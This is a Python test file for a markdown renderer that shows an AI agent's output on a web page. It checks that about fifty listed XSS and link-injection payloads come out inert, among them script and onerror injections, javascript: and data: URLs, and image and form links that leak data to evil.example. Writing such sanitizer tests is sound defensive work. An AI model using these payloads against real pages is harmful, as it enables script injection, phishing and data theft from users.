"""An agent's markdown on the page: readable, and inert whatever it says."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.runs.markdown import Blocks, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<p style='position:fixed' class='banner' id='main'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\\\evil.example/)",
    "[x](relative)",
    "[x](#main)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[x](https://a.example \"' onmouseover=alert(1) x='\")",
    '[x](https://a.example\\" onmouseover=alert(1))',
    "![x](https://evil.example/leak?secret=1)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.example/leak",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```py\n'</span><img src=x onerror=alert(1)>' # <script>\n```",
    '```py" onclick="alert(1)\nx\n```',
    "$\\text{<script>alert(1)</script>}$",
    "$$\n\\text{</math><img src=x onerror=alert(1)>}\n$$",
    "$\\text{&#x3c;script&#x3e;alert(1)}$ $\\unicode{x3c}script$",
    "$\\href{javascript:alert(1)}{x}$ \\(\\style{position:fixed}{x}\\)",
    "$\\class{banner}{x} \\color{red;x}{y} \\hspace{1em onclick=alert(1)}$",
    "$\\text{</annotation-xml><svg/onload=alert(1)>}$ $<script>alert(1)</script>$",
    "\\[<img src=x onerror=alert(1)>\\]",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "a\u2028<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "**<script>**alert(1)</script>",
]
TAGS = {
    "p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span",
    "figure", "figcaption", "math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mfrac", "msqrt",
    "mroot", "msub", "msup", "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd",
    "mstyle", "mphantom",
}  # fmt: skip
CLASSES = {
    "nowrap", "formula", "code", "code-comment", "code-keyword", "code-string", "code-number",
    "code-name", "code-attribute", "code-inserted", "code-deleted",
}  # fmt: skip
ATTRIBUTES = {
    "href", "title", "rel", "target", "start", "class", "display", "mathvariant", "stretchy",
    "fence", "form", "minsize", "maxsize", "movablelimits", "width", "linethickness", "accent",
    "displaystyle", "scriptlevel", "columnalign",
}  # fmt: skip


class Inspector(HTMLParser):
    """Notes what a browser would make of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, list[str]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, []).append(value or "")


def render_whole(text: str) -> str:
    return "\n".join(render(text))


def assert_inert(html: str) -> None:
    seen = Inspector()
    seen.feed(html)
    assert seen.tags <= TAGS
    assert set(seen.attributes) <= ATTRIBUTES
    assert set(seen.attributes.get("class", [])) <= CLASSES
    for href in seen.attributes.get("href", []):
        assert re.match(r"https?://|mailto:|/[^/\\]?", href, re.IGNORECASE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_an_agent_says_runs(attack: str) -> None:
    assert_inert(render_whole(attack))
    assert_inert(render_whole(f"Text before.\n\n{attack}\n\ntext *after*"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_while_it_arrives_either(attack: str) -> None:
    blocks = Blocks()
    for end in range(len(attack) + 1):
        for html in blocks.update(attack[:end]):
            assert_inert(html)


@given(st.text(alphabet="<>&\"'`*_[]()!#-| \n\\/:=ascriptonmg${}^", max_size=80))
def test_no_mixture_of_marks_gets_through(text: str) -> None:
    assert_inert(render_whole(text))


def test_what_people_read_is_kept() -> None:
    html = render_whole(
        "# Title\n\nA **bold** word, *one* ~~gone~~, `code` and "
        "[a link](https://a.example/?x=1&y=2).\n\n3. three\n4. four\n\n> said\n\n"
        "```py\nx < 1\n```\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |"
    )

    for piece in (
        "<h3>Title</h3>",
        "<strong>bold</strong>",
        "<em>one</em>",
        "<s>gone</s>",
        "<code>code</code>",
        '<a href="https://a.example/?x=1&amp;y=2" target="_blank"'
        ' rel="noopener noreferrer nofollow">a link</a>',
        '<ol start="3">',
        "<blockquote>",
        "<figcaption>Python</figcaption><pre><code>x &lt; ",
        "<td>2</td>",
    ):
        assert piece in html


@pytest.mark.parametrize("times", ["08:15\u201309:00", "8:15-9:00"])
def test_no_line_ends_between_two_times_of_the_day(times: str) -> None:
    whole = f'<span class="nowrap">{times}</span>'

    assert render_whole(f"| Time |\n|---|\n| {times} |").count(f"<td>{whole}</td>") == 1
    assert render_whole(f"From {times}, and {times}.") == f"<p>From {whole}, and {whole}.</p>"
    assert whole not in render_whole(f"`{times}` 1{times} {times}0")


def test_a_page_of_this_site_can_be_linked_to() -> None:
    assert 'href="/connections/"' in render_whole("[your connections](/connections/)")


def test_an_image_is_a_link_that_nobody_follows_unasked() -> None:
    html = render_whole("![chart](https://a.example/chart.png)")

    assert "<img" not in html
    assert 'href="https://a.example/chart.png"' in html


@pytest.mark.parametrize(
    "text",
    [
        "",
        "One.\n\nTwo.\n\n- a\n- b\n\n  more of b\n\n1. c\n",
        "Title\n=====\n\ntext\n---\n",
        "para\n- item\n- item\n\n```\ncode\n\nmore\n```\nafter\n",
        "| a |\n|---|\n| 1 |\n| 2 |\n\nafter",
        "> quote\nlazy\n\n> another\n\n    indented\n\n***\n",
        "a\x0bb\n\nc\u2028d\n\ne\x85f\n\ng",
    ],
)
def test_a_text_that_arrives_in_pieces_comes_out_as_a_whole_one(text: str) -> None:
    blocks = Blocks()
    shown: list[str] = []
    for end in range(len(text) + 1):
        shown = blocks.update(text[:end])

    assert shown == render(text)


@given(st.text(alphabet="ab*-#>`|1. \n$\\[]", max_size=60), st.integers(1, 7))
def test_settled_blocks_stay_as_they_are(text: str, size: int) -> None:
    blocks = Blocks()
    before: list[str] = []
    for end in range(0, len(text) + size, size):
        shown = blocks.update(text[:end])
        assert shown[: max(len(before) - 1, 0)] == before[: max(len(before) - 1, 0)]
        before = shown


TABLE = "Today:\n\n| Time | What |\n|---|---|\n| 9 | Dentist |\n| 11 | Lunch |\n\nThat is all."


def test_a_table_that_grows_is_never_shown_as_bars() -> None:
    blocks = Blocks()
    seen = {tuple(blocks.update(TABLE[:length])) for length in range(len(TABLE) + 1)}

    assert all("|" not in html for shown in seen for html in shown)
    rows = {html.count("<tr>") for shown in seen for html in shown if "<table>" in html}
    assert rows == {1, 2, 3}
    assert blocks.update(TABLE) == render(TABLE)


@pytest.mark.parametrize(
    "text, shown",
    [
        ("| Time", []),
        ("| Time |\n", []),
        ("Intro\n| Time |\n|--", ["<p>Intro</p>"]),
        ("| just a bar\n\n", ["<p>| just a bar</p>"]),
        ("a | b", ["<p>a | b</p>"]),
    ],
)
def test_what_may_become_a_table_waits_for_its_second_line(text: str, shown: list[str]) -> None:
    assert Blocks().update(text) == shown
